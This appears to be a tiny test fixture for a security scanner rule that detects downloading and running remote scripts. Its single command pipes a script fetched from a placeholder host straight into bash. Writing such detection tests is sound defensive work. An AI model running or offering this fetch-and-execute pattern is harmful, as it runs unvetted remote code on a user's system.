#!/bin/bash
# ruleid: yara.download_exec.curl_pipe_shell
bash <(curl -s https://example.com/run.sh)
